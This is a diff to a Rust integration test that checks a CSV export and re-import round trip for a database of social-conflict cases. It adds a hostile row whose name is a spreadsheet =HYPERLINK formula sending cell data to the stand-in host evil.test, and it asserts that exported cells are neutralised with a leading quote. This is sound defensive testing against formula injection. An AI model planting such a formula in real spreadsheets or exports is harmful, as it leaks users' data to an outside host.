@@ -609,7 +609,10 @@ async fn list_filters_search_and_pages() {
 async fn entries_export_imports_back_to_the_same_data() {
     let app = spawn_app().await;
     create_actor(&app, spcc()).await;
-    let file = write_csv(&format!("{HEADER}{}", good_rows()));
+    // A hostile case: its name and description are spreadsheet formulas.
+    let hostile = r#"220,2022-06,"=HYPERLINK(""http://evil.test/?leak=""&A2,""Click"")",Socioambiental,Minería,Puno,Puno,Puno,,"@Minera Mala",latente,,no,no,"-5 heridos; +2 detenidos"
+"#;
+    let file = write_csv(&format!("{HEADER}{}{hostile}", good_rows()));
     let (ok, stderr) = import(&app, file.path(), &[]);
     assert!(ok, "{stderr}");
     let res = app
@@ -619,17 +622,37 @@ async fn entries_export_imports_back_to_the_same_data() {
     assert!(res.header("content-type").unwrap().starts_with("text/csv"));
     let exported = res.body.as_str().unwrap().to_string();
     assert!(exported.starts_with(HEADER), "{exported}");
-    assert_eq!(exported.lines().count(), 6);
+    assert_eq!(exported.lines().count(), 7);
     assert!(exported.contains(
         "\"Incendio del campamento, en mayo; la empresa denuncia a mineros informales.\""
     ));
+    // No cell starts as a formula: each is quoted with `'`.
+    assert!(
+        exported.contains(r#""'=HYPERLINK(""http://evil.test/?leak=""&A2,""Click"")""#),
+        "{exported}"
+    );
+    assert!(exported.contains(",'@Minera Mala,"), "{exported}");
+    assert!(
+        exported.contains(",'-5 heridos; +2 detenidos"),
+        "{exported}"
+    );
+    let starts_formula = |line: &str| {
+        let mut reader = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(line.as_bytes());
+        let record = reader.records().next().unwrap().unwrap();
+        record
+            .iter()
+            .any(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r']))
+    };
+    assert!(!exported.lines().any(starts_formula), "{exported}");
 
     // Into the same database: nothing changes.
     let again = write_csv(&exported);
     let (ok, stderr) = import(&app, again.path(), &[]);
     assert!(ok, "{stderr}");
     assert!(
-        stderr.contains("entries 0 added, 0 updated, 5 unchanged"),
+        stderr.contains("entries 0 added, 0 updated, 6 unchanged"),
         "{stderr}"
     );
 
@@ -646,7 +669,9 @@ async fn entries_export_imports_back_to_the_same_data() {
     assert_eq!(res.status, 200);
     let cases = res.body.as_str().unwrap();
     assert!(cases.starts_with("id,name,case_type,"), "{cases}");
-    assert_eq!(cases.lines().count(), 5);
+    assert_eq!(cases.lines().count(), 6);
+    assert!(cases.contains(r#","'=HYPERLINK("#), "{cases}");
+    assert!(!cases.lines().any(starts_formula), "{cases}");
     let chancas = cases
         .lines()
         .find(|l| l.contains("Chancas") || l.contains("CHANCAS"))
